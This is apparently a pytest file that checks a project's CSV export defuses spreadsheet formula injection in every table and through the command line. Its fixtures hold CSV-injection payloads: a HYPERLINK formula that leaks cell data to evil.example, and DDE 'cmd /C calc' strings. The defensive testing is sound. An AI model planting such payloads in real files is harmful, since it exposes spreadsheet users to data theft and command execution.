"""CSV exports against formula injection: every text cell that a spreadsheet would take for a
formula (OWASP's list: = + - @ tab carriage return) is written with a leading single quote,
in every table; numbers we write stay numbers; the arms of each trace have a table of their
own. Also `learning-bot export --format csv` in a subprocess."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest

from learning_bot.app import build_app
from learning_bot.bot.export import (
    ARM_CSV_HEADER,
    FORMULA_STARTS,
    POSTERIOR_CSV_HEADER,
    TRACE_CSV_HEADER,
    csv_cell,
    csv_text,
    export_csv,
)
from learning_bot.engine import Arm, LearningConfig, Phase, ReportedArm, RunReport, ToolCall, Usage
from learning_bot.engine.errors import InvalidInput
from learning_bot.settings import Settings
from tests.processes import inherited

EXE = str(Path(sys.executable).with_name("learning-bot"))
HOSTILE = {
    "trace_id": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "session_id": "+cmd|' /C calc'!A0",
    "session_key": "-2+3+cmd|' /C calc'!A0",
    "channel": "@SUM(1+1)*cmd|' /C calc'!A0",
    "provider": "=1+1",
    "model": "-1",
}
ARMS = (
    Arm("tool:fs:Read", 120),
    Arm("skill:coding:main", 300, label="=cmd|' /C calc'!A0"),
)


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_text_cells_that_begin_like_a_formula_are_quoted() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert start in FORMULA_STARTS
        assert csv_text(start + "1+1") == "'" + start + "1+1"
    for safe in ("", "a=1", "tool:fs:Read", "1+1", " =1", "'=1"):
        assert csv_text(safe) == safe
    # numbers we write are numbers, never prefixed (a bare number is no formula); text that
    # looks like a number is text from outside and is prefixed like any other
    assert csv_cell(-3) == "-3" and csv_cell(-0.5) == "-0.5000" and csv_cell(0.25) == "0.2500"
    assert csv_cell("-3") == "'-3"
    assert (csv_cell(True), csv_cell(False), csv_cell(None)) == ("true", "false", "")


def test_every_csv_table_neutralises_hostile_text(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path}/csv.sqlite"
    app = build_app(Settings(database_url=url, config=LearningConfig(phase=Phase.ACTIVE)))
    try:
        service = app.service(create=True)
        service.observe(
            RunReport(
                arms=tuple(ReportedArm(a) for a in ARMS),
                tool_calls=(ToolCall("Read"),),
                usage=Usage(100, 20),
                **HOSTILE,
            )
        )
        service.observe(RunReport(trace_id="plain", arms=(ReportedArm(ARMS[0]),)))
        tables = {
            table: rows("".join(export_csv(service, table)))
            for table in ("traces", "arms", "posteriors")
        }
        with pytest.raises(InvalidInput, match="traces, arms, posteriors"):
            list(export_csv(service, "things"))
    finally:
        app.close()

    traces = tables["traces"]
    assert ",".join(traces[0]) == TRACE_CSV_HEADER
    hostile = dict(zip(traces[0], traces[1], strict=True))
    assert hostile["traceId"] == "'" + HOSTILE["trace_id"]
    assert hostile["sessionId"] == "'" + HOSTILE["session_id"]
    assert hostile["provider"] == "'=1+1" and hostile["model"] == "'-1"
    assert hostile["channel"] == "'" + HOSTILE["channel"]
    assert hostile["totalTokens"] == "120" and hostile["isBaseline"] == "false"
    assert traces[2][0] == "plain"

    arms = tables["arms"]
    assert ",".join(arms[0]) == ARM_CSV_HEADER
    by_arm = {(r[0], r[1]): dict(zip(arms[0], r, strict=True)) for r in arms[1:]}
    assert len(by_arm) == 3  # every arm of every trace
    skill = by_arm["'" + HOSTILE["trace_id"], "skill:coding:main"]
    assert skill["label"] == "'=cmd|' /C calc'!A0"
    read = by_arm["'" + HOSTILE["trace_id"], "tool:fs:Read"]
    assert read["included"] == "true" and read["referenced"] == "true"
    assert read["tokenCost"] == "120" and read["reward"] == "1.0000"
    assert by_arm["plain", "tool:fs:Read"]["reward"] == ""  # a conversational turn

    posteriors = tables["posteriors"]
    assert ",".join(posteriors[0]) == POSTERIOR_CSV_HEADER
    assert {r[0] for r in posteriors[1:]} == {a.id for a in ARMS}

    # no cell of any table begins like a formula
    for table in tables.values():
        for row in table:
            for cell in row:
                assert not cell.startswith(FORMULA_STARTS), (row, cell)


def test_export_csv_arms_from_the_command_line(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path}/cli.sqlite"
    app = build_app(Settings(database_url=url, config=LearningConfig(phase=Phase.ACTIVE)))
    try:
        app.service(create=True).observe(
            RunReport(arms=tuple(ReportedArm(a) for a in ARMS), **HOSTILE)
        )
    finally:
        app.close()
    env = inherited({"LEARNING_BOT_DATABASE_URL": url})
    done = subprocess.run(
        [EXE, "export", "--format", "csv", "--table", "arms"],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    table = rows(done.stdout)
    assert ",".join(table[0]) == ARM_CSV_HEADER
    assert [r[1] for r in table[1:]] == sorted(a.id for a in ARMS)
    assert all(r[0] == "'" + HOSTILE["trace_id"] for r in table[1:])
